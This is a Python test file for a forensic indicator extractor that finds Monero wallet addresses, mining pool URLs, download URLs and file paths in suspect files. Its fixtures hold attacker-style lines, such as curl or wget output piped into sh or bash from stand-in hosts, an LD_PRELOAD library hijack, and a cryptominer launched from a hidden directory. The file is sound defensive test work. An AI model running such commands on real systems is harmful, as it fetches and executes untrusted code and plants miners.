"""What a file names is found, what only looks alike is not, and no bytes make the search long."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from yara_samples import WALLET, monero_address

from volforensic.inventory.indicators import (
    INDICATOR_LIMIT,
    REFERENCE_LIMIT,
    TEXT_LIMIT,
    binary_indicators,
    is_monero_address,
    references,
    text_indicators,
)

PUBLISHED = [  # the Monero project's own addresses for gifts, old and new
    b"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
    b"888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoogDavup3H",
]


@pytest.mark.parametrize("address", PUBLISHED)
def test_published_addresses_are_right(address: bytes) -> None:
    assert is_monero_address(address)


@pytest.mark.parametrize(("network", "size"), [(18, 64), (42, 64), (19, 72)])
def test_addresses_of_every_kind_are_right(network: int, size: int) -> None:
    assert is_monero_address(monero_address(network, size).encode())


def test_addresses_of_other_networks_are_not() -> None:
    assert not is_monero_address(monero_address(53).encode())


@pytest.mark.parametrize("position", [0, 1, 10, 11, 50, 94])
def test_one_wrong_letter_makes_an_address_wrong(position: int) -> None:
    letters = bytearray(PUBLISHED[0])
    letters[position] = ord("Z") if letters[position] != ord("Z") else ord("Y")
    assert not is_monero_address(bytes(letters))


@pytest.mark.parametrize(
    "address", [b"", b"4" * 95, b"4" + b"z" * 94, b"4" + b"0" * 94, b"\xff" * 95, PUBLISHED[0][:-1]]
)
def test_what_is_no_address_is_refused(address: bytes) -> None:
    assert not is_monero_address(address)


def test_paths_are_named_once_and_in_order() -> None:
    data = b'#!/bin/sh\ncp /opt/.X25/a "/usr/lib/b.so" >/dev/null\nLD_PRELOAD=/usr/lib/b.so /opt/.X25/a; cat /etc/\n'
    assert references(data) == ["/bin/sh", "/opt/.X25/a", "/usr/lib/b.so", "/etc"]


@pytest.mark.parametrize(
    "data",
    [
        b"https://host.example/path",
        b"a/b/c",
        b"~/x",
        b"$HOME/x",
        b"./x",
        b"//comment",
        b"1/2",
        b"and/or",
        b"/",
        b"/a",
        b"</p>",
    ],
)
def test_what_is_no_absolute_path_is_not_named(data: bytes) -> None:
    assert references(data) == []


def test_a_path_that_is_not_utf8_is_escaped() -> None:
    assert references(b"run /opt/\xff\xfe now") == ["/opt/\\xff\\xfe"]


def test_a_path_is_resolved_as_text() -> None:
    data = b"run /opt/a/../b//c/./d and //opt/e // not/f //word"
    assert references(data) == ["/opt/b/c/d", "/opt/e"]


def test_what_is_started_after_a_change_of_directory_has_its_whole_path() -> None:
    assert references(b"cd /srv/.a && ./kswapd0 -c x\ncd '/opt/y/'\n./z\n") == [
        "/srv/.a",
        "/opt/y",
        "/srv/.a/kswapd0",
        "/srv/.a/x",
        "/opt/y/z",
    ]


def test_what_lies_below_a_variable_has_its_whole_path() -> None:
    found = references(b'D=/opt/x\nnohup "$D"/run -c ${D}/a.json $E/no\n')
    assert {"/opt/x/run", "/opt/x/a.json"} <= set(found)


def test_the_number_of_paths_and_their_bytes_are_bounded() -> None:
    data = b"".join(b" /p/%d" % number for number in range(1000))
    assert len(references(data)) == REFERENCE_LIMIT
    assert references(b" " * TEXT_LIMIT + b" /late/path") == []
    assert max(map(len, references(b"/" + b"a" * 100_000))) == 256


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"x stratum+tcp://pool.example:3333 -u w", ["pool:stratum+tcp://pool.example:3333"]),
        (b"P='stratum+ssl://[2001:db8::1]:443'", ["pool:stratum+ssl://[2001:db8::1]:443"]),
        (b"STRATUM2+TCP://Pool.Example:80", ["pool:STRATUM2+TCP://Pool.Example:80"]),
        (b"daemon+http://node.example:18081", ["pool:daemon+http://node.example:18081"]),
        (b"url: xmr-eu1.nanopool.org:14433,", ["pool:xmr-eu1.nanopool.org:14433"]),
        (b"Supportxmr.com:443", ["pool:supportxmr.com:443"]),
        (b"stratum+tcp://pool.supportxmr.com:443", ["pool:stratum+tcp://pool.supportxmr.com:443"]),
        (b'{"url": "198.51.100.7:443", "user": "x"}', ["pool:198.51.100.7:443"]),
        (
            b'{"pool_address" : "p.example:1", "pool_address" : "p.example:10", "wallet_address" : "w"}',
            ["pool:p.example:10"],
        ),
        (b"./a -o 198.51.100.7:8080 -u x -k", ["pool:198.51.100.7:8080"]),
        (b"./a --url=tcp://h.example:8080 --user x", ["pool:tcp://h.example:8080"]),
        (b'{"url": "198.51.100.7:443"}', []),
        (b"ssh -o 198.51.100.7:8080", []),
        (b"notsupportxmr.com:443 supportxmr.com.example:443 supportxmr.com", []),
        (b"https://host.example:443/ 12:30:45", []),
    ],
)
def test_pools(data: bytes, expected: list[str]) -> None:
    assert text_indicators(data) == expected


def test_wallets_are_told_only_with_a_right_checksum() -> None:
    wrong = "4" + "A" * 94
    data = f"-u {WALLET}.worker1 {WALLET} x{WALLET} {WALLET}x {wrong} {monero_address(19, 72)}+5000".encode()
    assert text_indicators(data) == [f"wallet:{WALLET}", f"wallet:{monero_address(19, 72)}"]


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"curl -fsSL http://203.0.113.9/a.sh | bash", ["url:http://203.0.113.9/a.sh"]),
        (b"(curl -s 203.0.113.9:8080/a||wget -q -O - h.example/b)|sh", ["url:203.0.113.9:8080/a", "url:h.example/b"]),
        (b'wget "https://h.example/x?a=1&b=2" -O /tmp/x', ["url:https://h.example/x?a=1&b=2"]),
        (b"urlopen('http://h.example/p')", ["url:http://h.example/p"]),
        (b"U=http://h.example/m\nwget -q $U", ["url:http://h.example/m"]),
        (b"U=http://h.example/m\necho $U", []),
        (b"# see https://h.example/documentation", []),
        (b"mycurl http://h.example/a", []),
    ],
)
def test_downloads(data: bytes, expected: list[str]) -> None:
    assert text_indicators(data) == expected


def test_the_number_of_indicators_is_bounded() -> None:
    data = b"".join(b"curl http://h.example/%d\nstratum+tcp://h.example:%d\n" % (n, n) for n in range(1000, 2000))
    assert len(text_indicators(data)) == 2 * INDICATOR_LIMIT


def test_a_program_is_searched_for_pools_and_wallets_only() -> None:
    data = (
        f"\x7fELF\0stratum+tcp://pool.example:3333\0{WALLET}\0curl http://h.example/a\0-o h.example:80 -u x\0".encode()
    )
    assert binary_indicators(data) == ["pool:stratum+tcp://pool.example:3333", f"wallet:{WALLET}"]


UNITS = [
    *(b"/", b"/a", b"a.", b"a-", b"1.1.1.1:", b"curl ", b"curl a.", b"curl http://", b"://", b"stratum+tcp://a"),
    *(b":33", b"a:333", b"supportxmr.com:", b"supportxmr.com:33 ", b"48" * 53 + b" ", b"4" + b"A" * 94 + b" "),
    *(b'"url":', b'"url"' + b" " * 20, b'"user":"', b"-o ", b"-o a:", b"-u -o aaaa", b"cd /", b"cd /a ./", b"=http://"),
    *(b" ", b"\t", b"\n", b"\0", b"\xff", b"curl " + b"a" * 63 + b".", b"curl " + b"a.b.c.d.e.f.g" * 20, b"= "),
]


@pytest.mark.parametrize("unit", UNITS, ids=lambda unit: str(unit[:16]))
def test_a_megabyte_of_one_pattern_ends(unit: bytes) -> None:
    data = b'curl cd /x ./y "user":"a" -u ' + unit * (TEXT_LIMIT // len(unit))
    assert len(references(data)) <= REFERENCE_LIMIT
    assert len(text_indicators(data)) <= 3 * INDICATOR_LIMIT
    assert len(binary_indicators(data)) <= 2 * INDICATOR_LIMIT


@given(
    st.binary(max_size=400),
    st.sampled_from([b"", b"curl ", b"cd /x;./", b'"user":"" "url":"', b"stratum+tcp://", b"-u -o "]),
)
def test_any_bytes_give_text(data: bytes, start: bytes) -> None:
    for found in (references(start + data), text_indicators(start + data), binary_indicators(start + data)):
        assert all(item.encode() for item in found)
